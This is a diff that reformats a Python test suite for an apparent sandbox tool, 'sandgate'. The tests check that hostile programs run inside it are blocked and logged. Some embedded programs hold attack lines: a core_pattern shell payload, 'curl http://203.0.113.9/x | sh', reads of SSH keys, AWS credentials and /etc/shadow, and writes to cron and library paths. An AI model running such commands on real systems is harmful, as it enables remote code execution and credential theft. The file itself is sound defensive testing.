@@ -47,7 +47,9 @@ def _host_core_pattern() -> str:
 def test_no_sysctl_is_writable_and_core_pattern_stays(backend, balanced):
     before = _host_core_pattern()
     canary = f"/tmp/sandgate-canary-{uuid.uuid4().hex}"
-    result, findings, rules = run(backend, code(f"""
+    result, findings, rules = run(
+        backend,
+        code(f"""
         import os
         for path, value in (("/proc/sys/kernel/core_pattern", "|/bin/sh -c id>{canary}"),
                             ("/proc/sys/vm/drop_caches", "3"), ("/proc/sysrq-trigger", "h"),
@@ -62,7 +64,8 @@ def test_no_sysctl_is_writable_and_core_pattern_stays(backend, balanced):
         if pid == 0:
             os.abort()
         os.waitpid(pid, 0)
-    """))
+    """),
+    )
     assert "WROTE" not in result.stdout, result.stdout
     assert result.stdout.count("refused") == 4
     time.sleep(0.5)  # a core handler would run now
@@ -93,9 +96,13 @@ def _host_uids_of_a_run(backend, **request) -> list[list[str]]:
     watcher = threading.Thread(target=look)
     watcher.start()
     # The program's text arrives on stdin: it puts the token where the host can see it, its argv.
-    result, _, _ = run(backend, "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', "
-                                f"'import time; time.sleep(1.5)', {token!r}])\n", with_limits(wall_time_s=4),
-                       **request)
+    result, _, _ = run(
+        backend,
+        "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', "
+        f"'import time; time.sleep(1.5)', {token!r}])\n",
+        with_limits(wall_time_s=4),
+        **request,
+    )
     watcher.join()
     assert result.exit_code == 0, (result.error, result.stderr)
     assert seen, "the sandboxed process was not found on the host"
@@ -132,9 +139,24 @@ def _syscall_numbers(*names: str) -> dict[str, int]:
 
 
 def test_the_seccomp_filter_refuses_what_sandboxed_code_never_needs(backend):
-    numbers = _syscall_numbers("mount", "unshare", "ptrace", "keyctl", "bpf", "perf_event_open", "userfaultfd",
-                               "io_uring_setup", "seccomp", "init_module", "kexec_load", "setns", "clone3")
-    result, _, _ = run(backend, code(f"""
+    numbers = _syscall_numbers(
+        "mount",
+        "unshare",
+        "ptrace",
+        "keyctl",
+        "bpf",
+        "perf_event_open",
+        "userfaultfd",
+        "io_uring_setup",
+        "seccomp",
+        "init_module",
+        "kexec_load",
+        "setns",
+        "clone3",
+    )
+    result, _, _ = run(
+        backend,
+        code(f"""
         import ctypes, json
         libc = ctypes.CDLL(None, use_errno=True)
         libc.syscall.restype = ctypes.c_long
@@ -144,7 +166,8 @@ def test_the_seccomp_filter_refuses_what_sandboxed_code_never_needs(backend):
             rc = libc.syscall(nr, *args)
             out[name] = (rc, ctypes.get_errno())
         print(json.dumps(out))
-    """))
+    """),
+    )
     got = json.loads(result.stdout)
     import errno
 
@@ -188,13 +211,16 @@ def test_many_small_writes_in_scratch_do_not_use_the_budget_up(backend, balanced
 
 
 def test_a_connection_through_ctypes_is_recorded(backend, balanced):
-    result, findings, rules = run(backend, code(f"""
+    result, findings, rules = run(
+        backend,
+        code(f"""
         import ctypes, socket, struct
         libc = ctypes.CDLL(None, use_errno=True)
         fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
         addr = struct.pack("<H", socket.AF_INET) + struct.pack(">H", 80) + socket.inet_aton("{TARGET}") + bytes(8)
         print("rc", libc.connect(fd, addr, len(addr)), ctypes.get_errno())
-    """))
+    """),
+    )
     assert "rc -1" in result.stdout
     assert [f.detail("host") for f in findings if f.rule == "network.denied"] == [TARGET]
     assert "monitor.tampered" in rules
@@ -202,10 +228,13 @@ def test_a_connection_through_ctypes_is_recorded(backend, balanced):
 
 
 def test_a_fresh_interpreter_is_recorded(backend, balanced):
-    result, findings, rules = run(backend, code(f"""
+    result, findings, rules = run(
+        backend,
+        code(f"""
         import os, sys
         os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", {CONNECT!r}])
-    """))
+    """),
+    )
     assert "connect failed" in result.stdout, result.stderr
     assert [f.detail("host") for f in findings if f.rule == "network.denied"] == [TARGET]
     assert "monitor.tampered" in rules
@@ -214,8 +243,9 @@ def test_a_fresh_interpreter_is_recorded(backend, balanced):
 
 
 def test_a_blinded_spawn_of_a_missing_shell_is_recorded(backend, balanced):
-    result, findings, rules = run(backend, BLINDERS["busy set"]
-                                  + "import os\nos.system('curl http://203.0.113.9/x | sh')\n")
+    result, findings, rules = run(
+        backend, BLINDERS["busy set"] + "import os\nos.system('curl http://203.0.113.9/x | sh')\n"
+    )
     spawns = [f.detail("argv") for f in findings if f.rule == "process.spawn"]
     assert any(argv and argv[0] == "/bin/sh" and "curl http://203.0.113.9/x | sh" in argv for argv in spawns), spawns
     assert "monitor.tampered" in rules
@@ -223,13 +253,17 @@ def test_a_blinded_spawn_of_a_missing_shell_is_recorded(backend, balanced):
 
 
 def test_a_blinded_write_outside_scratch_is_recorded(backend, balanced):
-    result, findings, rules = run(backend, BLINDERS["busy set"] + code("""
+    result, findings, rules = run(
+        backend,
+        BLINDERS["busy set"]
+        + code("""
         for path in ("/workspace/planted.py", "/etc/cron.d/x", "/tmp/../usr/lib/evil.so"):
             try:
                 open(path, "w")
             except OSError as e:
                 print("refused", e.errno)
-    """))
+    """),
+    )
     assert result.stdout.count("refused") == 3
     paths = {f.detail("path") for f in findings if f.rule == "fs.write-outside-scratch"}
     assert {"/workspace/planted.py", "/etc/cron.d/x", "/usr/lib/evil.so"} <= paths
@@ -238,13 +272,17 @@ def test_a_blinded_write_outside_scratch_is_recorded(backend, balanced):
 
 
 def test_a_blinded_read_of_a_secret_path_is_recorded(backend, balanced):
-    result, findings, rules = run(backend, BLINDERS["busy set"] + code("""
+    result, findings, rules = run(
+        backend,
+        BLINDERS["busy set"]
+        + code("""
         for path in ("/root/.ssh/id_rsa", "/root/.aws/credentials", "/etc/shadow"):
             try:
                 open(path).read()
             except OSError:
                 pass
-    """))
+    """),
+    )
     read = {f.detail("path"): f.severity.name for f in findings if f.rule == "fs.read-outside-workspace"}
     assert read == {"/root/.ssh/id_rsa": "HIGH", "/root/.aws/credentials": "HIGH", "/etc/shadow": "HIGH"}
     assert "monitor.tampered" in rules
@@ -259,7 +297,9 @@ def test_os_exit_skips_the_final_report_and_is_held(backend, balanced):
 
 
 def test_an_honest_program_is_not_called_a_tamperer(backend, balanced):
-    result, findings, rules = run(backend, code("""
+    result, findings, rules = run(
+        backend,
+        code("""
         import json, subprocess, sys, tempfile, threading, urllib.parse
         with tempfile.NamedTemporaryFile("w", delete=False) as f:
             json.dump({"a": 1}, f)
@@ -270,7 +310,8 @@ def test_an_honest_program_is_not_called_a_tamperer(backend, balanced):
         except OSError as e:
             print("no git", e.errno)
         print(urllib.parse.urlsplit("https://example.com/x").hostname)
-    """))
+    """),
+    )
     assert "monitor.tampered" not in rules and "monitor.lost" not in rules, [f.message for f in findings]
     assert decision(balanced, findings) == Verdict.ALLOW
 
@@ -352,10 +393,13 @@ def test_a_caught_limit_is_still_a_finding(backend, balanced, limit):
 
 
 def test_proc_1_shows_nothing_of_the_host(backend):
-    result, _, _ = run(backend, code("""
+    result, _, _ = run(
+        backend,
+        code("""
         for path in ("/proc/1/environ", "/proc/self/environ"):
             print(open(path, "rb").read().replace(b"\\0", b"\\n").decode())
-    """))
+    """),
+    )
     assert os.getcwd() not in result.stdout and "/root" not in result.stdout, result.stdout
     assert str(Path.home()) not in result.stdout.replace("HOME=/nonexistent", "")
 
@@ -367,12 +411,18 @@ def test_proc_1_shows_nothing_of_the_host(backend):
 def test_kill_9_of_sandgate_vet_leaves_nothing_running(name, tmp_path):
     token = f"kill9-{uuid.uuid4().hex}"
     # The program reaches the sandbox on stdin: it puts the token in its argv, where the host sees it.
-    (tmp_path / "slow.py").write_text(f"import os, sys\nos.execv(sys.executable, [sys.executable, '-c', "
-                                      f"'import time; time.sleep(30)', {token!r}])\n")
+    (tmp_path / "slow.py").write_text(
+        f"import os, sys\nos.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(30)', {token!r}])\n"
+    )
     env = {**os.environ, "SANDGATE_MANAGED_POLICY": str(tmp_path / "none.toml")}
     (tmp_path / "none.toml").write_text("version = 1\n")
-    proc = subprocess.Popen([sys.executable, "-m", "sandgate", "vet", "--no-audit", "--backend", name, "slow.py"],
-                            cwd=tmp_path, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "sandgate", "vet", "--no-audit", "--backend", name, "slow.py"],
+        cwd=tmp_path,
+        env=env,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     deadline = time.monotonic() + 60
     while not procs_with(token) and time.monotonic() < deadline:
         time.sleep(0.1)
@@ -389,8 +439,11 @@ def test_kill_9_of_sandgate_vet_leaves_nothing_running(name, tmp_path):
 
         api = docker.from_env().api
         while time.monotonic() < deadline:
-            left = [c for c in api.containers(all=True, filters={"label": "sandgate"})
-                    if f":{owner_pid}:" in (c.get("Labels") or {}).get("sandgate.owner", "")]
+            left = [
+                c
+                for c in api.containers(all=True, filters={"label": "sandgate"})
+                if f":{owner_pid}:" in (c.get("Labels") or {}).get("sandgate.owner", "")
+            ]
             if not left:
                 break
             time.sleep(0.2)
@@ -398,8 +451,9 @@ def test_kill_9_of_sandgate_vet_leaves_nothing_running(name, tmp_path):
 
 
 def test_doctor_says_how_each_backend_confines_a_run():
-    done = subprocess.run([sys.executable, "-m", "sandgate", "sandbox", "doctor"], capture_output=True, text=True,
-                          timeout=120)
+    done = subprocess.run(
+        [sys.executable, "-m", "sandgate", "sandbox", "doctor"], capture_output=True, text=True, timeout=120
+    )
     assert done.returncode == 0, done.stdout + done.stderr
     lines = done.stdout.splitlines()
     for name in ("docker", "bwrap"):
